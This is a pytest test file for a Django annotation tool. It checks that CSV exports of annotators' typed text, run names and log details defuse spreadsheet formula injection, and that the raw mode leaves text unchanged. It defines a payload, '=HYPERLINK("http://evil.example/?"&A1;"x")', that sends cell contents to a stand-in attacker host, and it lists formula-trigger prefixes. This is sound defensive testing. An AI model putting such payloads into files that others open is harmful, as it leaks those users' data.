"""Texts of people in a CSV of a page are not formulas; with `raw`, and elsewhere, as typed."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from annotation.core.csv_rows import FreeCell, csv_lines, safe_table, safe_text
from annotation.models import AuditEvent, Batch, Choice, Vote
from annotation.vocabulary import AuditAction
from annotation.workers.operations.discard_votes import votes_discard
from tests.commands import run
from tests.schemed import answered
from tests.study import stored_batch, stored_pool, stored_study, with_votes

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'


def rows_of(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    content = b"".join(response) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def cells_of(response: Any) -> set[str]:
    return {cell for row in rows_of(response) for cell in row}


@pytest.mark.parametrize(
    "first",
    ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", '"=1', "\uff1d1", "\ufeff=1", "\u200b =1"],
)
def test_a_text_that_begins_like_a_formula_is_none(first: str) -> None:
    assert safe_text(first) == f"'{first}" or first[0] in "\t\r"
    assert not safe_text(first).startswith(("=", "+", "-", "@", "\t", "\r", " ", '"', "\uff1d"))


@pytest.mark.parametrize("end", [";", "\t", "\n", "\r\n"])
def test_a_formula_behind_what_ends_a_cell_elsewhere_is_none(end: str) -> None:
    assert f"{end}=" not in safe_text(f"a{end}=1")
    assert safe_text(f"a{end}b") == f"a{end}b"


@pytest.mark.parametrize("text", ["", "who leads", "a-b", "1+1=2", "x@y", "a, =b", "'-", "'=1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert safe_text(text) == text


def test_only_texts_of_people_are_changed() -> None:
    row = ("=id", FreeCell("=text"), -1)
    assert list(csv_lines([row], is_safe=True)) == ["=id,'=text,-1\n"]
    assert list(csv_lines([row])) == ["=id,=text,-1\n"]


def test_numbers_of_a_report_stay_and_names_of_runs_are_safe() -> None:
    table = "run,RaB\n=1+1,-0.25\n-x,-1e-05\n,nan\n"
    assert safe_table(table) == "run,RaB\n'=1+1,-0.25\n'-x,-1e-05\n,nan\n"


def test_a_typed_answer_in_the_votes_of_a_page_is_no_formula(client: Client) -> None:
    batch = answered(stored_pool(4, "p").belongs.study)
    vote = Vote.objects.filter(query__batch=batch).first()
    assert vote is not None
    Choice.objects.create(vote=vote, question="remark", option="", text=FORMULA)
    page = reverse("batch-scheme-file", args=[batch.pk, "votes"])
    assert f"'{FORMULA}" in cells_of(client.get(page))
    assert FORMULA not in cells_of(client.get(page))
    assert FORMULA in cells_of(client.get(page, {"raw": "on"}))
    caller = APIClient()
    caller.force_authenticate(User.objects.create_user("ada", is_staff=True))
    api = reverse("api-batch-scheme-file", args=[batch.pk, "votes"])
    assert FORMULA in cells_of(caller.get(api))


def test_the_command_writes_typed_answers_as_they_are(tmp_path: Path) -> None:
    batch = answered(stored_pool(4, "p").belongs.study)
    vote = Vote.objects.filter(query__batch=batch).first()
    assert vote is not None
    Choice.objects.create(vote=vote, question="remark", option="", text=FORMULA)
    output = tmp_path / "votes.csv"
    run("scheme", "export", batch.name, "--file", "votes", "--output", output)
    with output.open(encoding="utf-8", newline="") as file:
        assert FORMULA in {cell for row in csv.reader(file) for cell in row}


@pytest.mark.parametrize("name", ["batch-log", "study-log"])
def test_names_and_details_in_a_log_are_no_formulas(client: Client, name: str) -> None:
    batch = stored_study(4)
    Batch.objects.filter(pk=batch.pk).update(name=FORMULA)
    AuditEvent.objects.create(batch=batch, actor="@A1", action=AuditAction.RENAMED)
    number = batch.pk if name == "batch-log" else batch.study_id
    cells = cells_of(client.get(reverse(name, args=[number]), {"as": "csv"}))
    assert {f"'{FORMULA}", "'@A1"} <= cells
    assert not {FORMULA, "@A1"} & cells
    raw = cells_of(client.get(reverse(name, args=[number]), {"as": "csv", "raw": "on"}))
    assert {FORMULA, "@A1"} <= raw


def test_reasons_in_the_table_of_workers_are_no_formulas(client: Client) -> None:
    batch = stored_study(4)
    votes_discard(batch=batch, worker_id="A0", reason=FORMULA, actor="test")
    page = reverse("batch-workers", args=[batch.pk])
    assert f"'{FORMULA}" in cells_of(client.get(page, {"as": "csv"}))
    assert FORMULA in cells_of(client.get(page, {"as": "csv", "raw": "on"}))


def test_names_of_runs_in_a_pool_are_no_formulas_and_queries_stay(client: Client) -> None:
    pool = stored_pool(4, "p")
    query = pool.queries.order_by("pk")[0]
    type(query).objects.filter(pk=query.pk).update(text="=1+1")
    place = query.places.all()[0]
    type(place).objects.filter(pk=place.pk).update(run="+1+1")
    cells = cells_of(client.get(reverse("pool-detail", args=[pool.pk]), {"as": "csv"}))
    assert "=1+1" in cells
    assert not {cell for cell in cells if cell.startswith("+1+1")}
    assert {cell for cell in cells if cell.startswith("'+1+1")}


def test_ids_queries_and_labels_are_never_changed(client: Client) -> None:
    batch = with_votes(stored_batch(stored_pool(4, "p"), "b"))
    query = batch.queries.order_by("pk")[0]
    type(query).objects.filter(pk=query.pk).update(text=FORMULA, qid="=1")
    page = client.get(reverse("batch-queries", args=[batch.pk]), {"as": "csv"})
    assert {FORMULA, "=1"} <= cells_of(page)
    votes = client.get(reverse("batch-votes", args=[batch.pk]), {"layout": "plain"})
    assert {FORMULA, "=1"} <= cells_of(votes)


def test_the_title_of_a_batch_in_its_results_is_no_formula(client: Client) -> None:
    batch = stored_study(4)
    Batch.objects.filter(pk=batch.pk).update(title=FORMULA)
    page = reverse("batch-votes", args=[batch.pk])
    assert f"'{FORMULA}" in cells_of(client.get(page, {"layout": "mturk"}))
    assert FORMULA in cells_of(client.get(page, {"layout": "mturk", "raw": "on"}))
